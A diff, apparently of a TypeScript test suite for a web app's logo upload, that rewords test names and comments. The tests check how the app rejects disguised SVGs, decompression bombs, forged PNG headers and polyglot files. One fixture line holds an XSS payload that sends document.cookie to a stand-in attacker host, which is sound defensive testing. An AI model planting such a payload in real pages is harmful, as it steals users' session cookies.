@@ -85,7 +85,7 @@ describe('a logo', () => {
     expect(await companyLogo(app, row)).toBe(`data:image/png;base64,${bytes.toString('base64')}`)
   })
 
-  test('takes the place of the former one, whose file goes, and goes itself when it is removed', async () => {
+  test('replaces the former one, whose file is deleted, and is deleted itself on removal', async () => {
     await send(await picture().png().toBuffer())
     const first = (await company.as().companies.settings()).data.logo
     await send(await picture(64, 64).png().toBuffer())
@@ -107,12 +107,12 @@ describe('a logo', () => {
     ])
   })
 
-  test('larger than its place on paper is made smaller', async () => {
+  test('larger than its place on paper is scaled down', async () => {
     await send(await picture(4000, 1000).png().toBuffer())
     expect(await sharp(await bytesOf(await read())).metadata()).toMatchObject({ width: 1200, height: 300 })
   })
 
-  test('of another company is not found, to the letter as one that does not exist', async () => {
+  test('of another company gets the same response byte for byte as one that does not exist', async () => {
     const other = await createTestCompany(app)
     await send(await picture().png().toBuffer())
     const stranger = await cookieOf(app, other, 1)
@@ -138,7 +138,7 @@ describe('a logo', () => {
     expect(await kept()).toEqual({ files: 0, rows: 0 })
   })
 
-  test('whose row never came is swept away', async () => {
+  test('without a row is deleted by the sweep', async () => {
     const folder = `${company.tenantId}/company-logo`
     await app.storage.put(`${folder}/left-behind`, Buffer.from('x'))
     await send(await picture().png().toBuffer())
@@ -149,7 +149,7 @@ describe('a logo', () => {
   })
 })
 
-describe('what is no logo', () => {
+describe('a file that is not a logo', () => {
   const svg = (body: string) =>
     Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">${body}</svg>`)
   const script = '<script>fetch("https://evil.example/"+document.cookie)</script>'
@@ -162,7 +162,7 @@ describe('what is no logo', () => {
     return answers.length
   }
 
-  test('is refused in each of 20 disguises, and leaves nothing', async () => {
+  test('is refused in each of 20 disguises, and nothing of it is stored', async () => {
     const png = await picture().png().toBuffer()
     const cases = [
       ['svg', svg('<rect/>'), 'image/svg+xml'],
@@ -201,14 +201,14 @@ describe('what is no logo', () => {
     expect(await refused(cases)).toBe(20)
   })
 
-  test('is refused where it is larger than 4,000 pixels on a side, however few bytes it has', async () => {
+  test('is refused if it has more than 4,000 pixels on a side, however few bytes it has', async () => {
     const wide = await picture(4001, 1).png().toBuffer()
-    // 50 MB once it is unpacked.
+    // 50 MB when decoded.
     const bomb = await sharp({ create: { width: 4100, height: 4100, channels: 3, background: '#fff' } })
       .png({ compressionLevel: 1 })
       .toBuffer()
     expect(bomb.length).toBeLessThan(500_000)
-    // Says in its head that it is 60,000 pixels wide and high.
+    // Its header claims 60,000 pixels of width and height.
     const lying = await picture().png().toBuffer()
     lying.writeUInt32BE(60_000, 16)
     lying.writeUInt32BE(60_000, 20)
@@ -227,7 +227,7 @@ describe('what is no logo', () => {
     expect(await response.json()).toMatchObject({ details: { maxBytes: 5_000_000 } })
   })
 
-  test('loses what lies behind the picture: a polyglot is stored as a picture and nothing else', async () => {
+  test('is stripped of trailing data: a polyglot is stored as a picture and nothing else', async () => {
     const hidden = Buffer.from(`<html>${script}</html>`)
     const polyglots = await Promise.all([
       picture()
